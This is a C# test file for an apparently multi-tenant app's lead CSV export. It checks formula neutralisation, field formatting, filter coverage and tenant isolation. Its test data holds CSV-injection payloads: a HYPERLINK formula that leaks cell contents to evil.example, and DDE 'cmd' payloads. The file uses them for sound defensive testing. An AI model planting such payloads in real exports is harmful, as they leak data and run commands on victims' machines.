using System.Text;
using CsvHelper;
using SmbAgent.Conversations;
using SmbAgent.Leads;

namespace SmbAgent.Application.Tests.Leads;

/// <summary>
/// The CSV export: visitor values that start like a spreadsheet formula are neutralised with a leading quote
/// (OWASP's CSV injection advice), everything else is exported as given, and the export follows the list's filters.
/// </summary>
public sealed class LeadCsvExportTests(LeadsFixture fixture) : IClassFixture<LeadsFixture>
{
    public static TheoryData<string> Formulas => new()
    {
        "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click for details\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    };

    [Theory]
    [MemberData(nameof(Formulas))]
    public async Task A_value_that_starts_like_a_formula_gets_a_leading_quote_in_every_visitor_field(string formula)
    {
        var tenant = await fixture.CreateTenantAsync();
        await fixture.AddLeadAsync(tenant, new()
        {
            Name = formula,
            Email = formula,
            Phone = Phone(formula),
            Address = formula,
            Notes = formula,
            OwnerNotes = formula,
            Answers = [new(Guid.NewGuid(), formula, "fine")],
        });

        var (header, rows) = await ExportAsync(tenant, new());

        var row = rows.ShouldHaveSingleItem();
        foreach (var column in new[] { "Name", "Email", "Address", "Notes", "Owner notes" })
        {
            row[Array.IndexOf(header, column)].ShouldBe("'" + formula, column);
        }

        row[Array.IndexOf(header, "Phone")].ShouldBe("'" + Phone(formula));

        row[Array.IndexOf(header, "Answers")].ShouldBe($"'{formula}: fine");
    }

    [Fact]
    public async Task Ordinary_values_are_exported_as_given_with_a_header_and_a_byte_order_mark()
    {
        var tenant = await fixture.CreateTenantAsync();
        await fixture.SetTimeZoneAsync(tenant, "Europe/Paris");
        var question = Guid.NewGuid();
        var id = await fixture.AddLeadAsync(tenant, new()
        {
            Created = new(2026, 7, 14, 8, 30, 0, TimeSpan.Zero),
            Name = "Zoë \"Zo\" Müller, Jr.",
            Email = "zoe@example.com",
            Phone = "+33612345678",
            Notes = "Line one\nline two; 1 + 1 = 2",
            Priority = LeadPriority.High,
            Channel = ConversationChannel.Voice,
            Status = LeadStatus.Qualified,
            Answers = [new(question, "When?", "2026-07-20"), new(Guid.NewGuid(), "Budget?", null)],
        });

        var bytes = await ExportBytesAsync(tenant, new());
        var (header, rows) = Parse(bytes);

        bytes.AsSpan(0, 3).ToArray().ShouldBe(Encoding.UTF8.Preamble.ToArray());
        header.ShouldBe(["Created", "Status", "Priority", "Channel", "Name", "Email", "Phone", "Address", "Notes", "Answers", "Owner notes", "Lead id"]);
        rows.ShouldHaveSingleItem().ShouldBe(
        [
            "2026-07-14 10:30:00 +02:00", "Qualified", "High", "Voice", "Zoë \"Zo\" Müller, Jr.", "zoe@example.com",
            "'+33612345678", string.Empty, "Line one\nline two; 1 + 1 = 2", "When?: 2026-07-20\nBudget?: (skipped)", string.Empty, id.ToString(),
        ]);
    }

    [Fact]
    public async Task The_export_has_every_lead_the_filters_select_in_the_lists_order_not_one_page()
    {
        var tenant = await fixture.CreateTenantAsync();
        var day = new DateTimeOffset(2026, 3, 10, 12, 0, 0, TimeSpan.Zero);
        var urgent = new List<string>();
        for (var i = 0; i < LeadListInput.DefaultPageSize + 3; i++)
        {
            urgent.Add((await fixture.AddLeadAsync(tenant, new() { Created = day.AddMinutes(i), Priority = LeadPriority.Urgent, Name = $"Urgent {i}" })).ToString());
        }

        await fixture.AddLeadAsync(tenant, new() { Created = day, Name = "Urgent-sounding but normal" });

        var (header, rows) = await ExportAsync(tenant, new() { Priority = LeadPriority.Urgent, Descending = false, Page = 2 });

        rows.Select(r => r[Array.IndexOf(header, "Lead id")]).ShouldBe(urgent);
    }

    [Fact]
    public async Task Another_businesss_leads_are_never_exported()
    {
        var other = await fixture.CreateTenantAsync();
        var tenant = await fixture.CreateTenantAsync();
        await fixture.AddLeadAsync(other, new() { Name = "Their customer" });

        var (_, rows) = await ExportAsync(tenant, new());

        rows.ShouldBeEmpty();
    }

    /// <summary>The phone column is as long as an E.164 number allows.</summary>
    private static string Phone(string value) => value.Length <= LeadConsts.MaxPhoneLength ? value : value[..LeadConsts.MaxPhoneLength];

    private async Task<(string[] Header, List<string[]> Rows)> ExportAsync(Guid tenant, LeadListInput input) =>
        Parse(await ExportBytesAsync(tenant, input));

    private Task<byte[]> ExportBytesAsync(Guid tenant, LeadListInput input) =>
        fixture.LeadsAsync(tenant, async s =>
        {
            using var output = new MemoryStream();
            await s.ExportCsvAsync(input, output);
            return output.ToArray();
        });

    /// <summary>Reads the export back with an RFC 4180 reader, as a spreadsheet would split it.</summary>
    private static (string[] Header, List<string[]> Rows) Parse(byte[] csv)
    {
        using var reader = CsvReader.Create(csv, new CsvReaderOptions { HasHeader = false });
        var records = new List<string[]>();
        while (reader.Read())
        {
            records.Add([.. Enumerable.Range(0, reader.FieldCount).Select(reader.GetString)]);
        }

        return (records[0], records[1..]);
    }
}
